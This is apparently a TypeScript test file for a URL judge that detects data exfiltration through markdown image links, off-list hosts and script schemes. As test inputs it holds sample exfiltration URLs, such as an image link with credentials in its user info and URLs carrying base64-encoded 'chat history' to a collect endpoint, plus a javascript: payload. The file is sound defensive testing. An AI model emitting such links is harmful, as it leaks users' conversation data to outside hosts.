// The URL judge's edges: exact host rules are exact, and data rides out in user info or a long query too.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { detectExfiltration } from './index.js';
import { dataLike, hostAllowed, judgeUrl } from './url-data.js';

const carries = (url: string, allowed: string[] = []) => {
  const v = judgeUrl(url, allowed);
  return v.kind === 'off-list' ? v.carriesData : v.kind;
};

describe('URL judge', () => {
  it('an exact host rule allows that host only, not a name ending in it', () => {
    assert.equal(hostAllowed('acme.io', ['acme.io']), true);
    assert.equal(hostAllowed('ACME.io.', ['acme.io']), true, 'case and the root dot do not matter');
    assert.equal(hostAllowed('evilacme.io', ['acme.io']), false);
    assert.equal(hostAllowed('docs.acme.io', ['acme.io']), false, 'an exact rule does not cover subdomains');
    assert.equal(hostAllowed('docs.acme.io', ['.acme.io']), true);
    assert.equal(hostAllowed('evilacme.io', ['.acme.io']), false);
    assert.deepEqual(judgeUrl('https://evilacme.io/p.png', ['acme.io']), {
      kind: 'off-list',
      host: 'evilacme.io',
      carriesData: false,
    });
    assert.deepEqual(judgeUrl('https://acme.io/p.png', ['acme.io']), { kind: 'ok' });
  });

  it('data in the user info of a URL counts as carried data', () => {
    assert.equal(carries('https://alice:hunter2@e.net/p.png'), true);
    assert.equal(carries('https://token@e.net/p.png'), true);
    assert.equal(carries('https://e.net/p.png'), false);
    assert.deepEqual(
      detectExfiltration('![x](https://leak:s3cret@e.net/p.png)').map((f) => f.kind),
      ['image-exfiltration'],
    );
  });

  it('a long query carries data even when no single value looks encoded', () => {
    const words = (n: number) => Array.from({ length: n }, (_, i) => `field${i}=value`).join('&');
    assert.equal(carries(`https://e.net/p?${words(3)}`), false);
    assert.equal(carries(`https://e.net/p?${words(40)}`), true);
    // An inline data:image value for a badge service is not counted towards the length.
    const badge = `data:image/png;base64,${'A'.repeat(400)}`;
    assert.equal(carries(`https://e.net/badge?logo=${encodeURIComponent(badge)}`), false);
  });

  it('a path segment or spread hex carries data, plain paths do not', () => {
    assert.equal(carries('https://e.net/a/c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5'), true);
    assert.equal(carries('https://e.net/73/65/63/72/65/74/21'), true);
    assert.equal(carries('https://e.net/docs/2024/05/release-notes'), false);
    // Decision 1640: a URL inside a query value carries data when the inner URL does (a badge proxy, a redirect).
    assert.equal(carries('https://e.net/q?u=https%3A%2F%2Fother.example%2Fcollect%3Fa%3D1'), false);
    assert.equal(
      carries(
        `https://e.net/q?u=${encodeURIComponent('https://other.example/collect?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA')}`,
      ),
      true,
    );
  });

  it('schemes: script schemes are bad, non-image data is bad, other schemes and local hosts are ok', () => {
    assert.deepEqual(judgeUrl(' JavaScript:alert(1)', []), { kind: 'bad-scheme', scheme: 'javascript' });
    assert.deepEqual(judgeUrl('vbscript:msgbox', []), { kind: 'bad-scheme', scheme: 'vbscript' });
    assert.deepEqual(judgeUrl('data:image/svg+xml;base64,PHN2Zz4=', []), {
      kind: 'bad-scheme',
      scheme: 'data',
    });
    assert.deepEqual(judgeUrl('mailto:a@b.c', []), { kind: 'ok' });
    assert.deepEqual(judgeUrl('http://localhost:8080/x?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA==', []), {
      kind: 'ok',
    });
    assert.deepEqual(judgeUrl('/relative/path', []), { kind: 'ok' });
    assert.equal(carries('//e.net/p.png'), false, 'a scheme-relative URL reaches another host');
    assert.equal(judgeUrl('//e.net/p.png', []).kind, 'off-list');
  });

  it('dataLike tells encoded data from words, ids and digests', () => {
    assert.equal(dataLike('c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA=='), true);
    assert.equal(dataLike('"c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA=="'), true, 'a stray quote around base64');
    assert.equal(dataLike('release-notes'), false);
    assert.equal(dataLike('3f786850e387550fdab836ed7e6dc881de23001b'), false, 'a commit hash');
    assert.equal(dataLike('123e4567-e89b-12d3-a456-426614174000'), false, 'a UUID');
    assert.equal(dataLike('the user said their password is hunter2'), true, 'a sentence');
    assert.equal(dataLike('xK9#mQ2$vL8@pR4!wN7&zT1*'), false, 'short symbols are not enough');
    assert.equal(dataLike('aZ3kQ9xP2mL7vR4tW8yB1nC6'), true, 'a high-entropy token');
  });

  it('dataLike boundaries: long slugs, short sentences, base64 that decodes to bytes, spread hex', () => {
    const slug = (n: number) =>
      Array.from({ length: n }, (_, i) => ['release', 'notes', 'page', 'guide'][i % 4]).join('-');
    assert.equal(dataLike(slug(8)), false, 'a slug of words');
    assert.equal(dataLike(slug(30)), true, 'words past 100 characters carry data');
    assert.equal(dataLike('ReleaseNotesForVersionTwoOfTheGuide'), false, 'CamelCase words');
    assert.equal(dataLike('four words only here'), false, 'fewer than five words is not a sentence');
    assert.equal(dataLike('now five words are here ok'), true, 'five words past 24 characters');
    assert.equal(dataLike('c2VjcmV0'), false, 'base64 under 16 characters');
    assert.equal(
      dataLike(Buffer.from([0, 1, 2, 3, 250, 251, 252, 253, 254, 255, 9, 8]).toString('base64')),
      false,
    );
    assert.equal(carries('https://e.net/2024/05/06/release'), false, 'a date is not spread hex');
    assert.equal(carries('https://e.net/de/ad/be/ef/ca/fe/ba/be'), true, 'eight short hex segments');
    assert.equal(carries('https://e.net/dead/beef/cafe/babe'), true, 'letter-bearing hex split up');
    assert.equal(carries('https://e.net/1234/5678/9012'), false, 'three digit groups');
  });
});
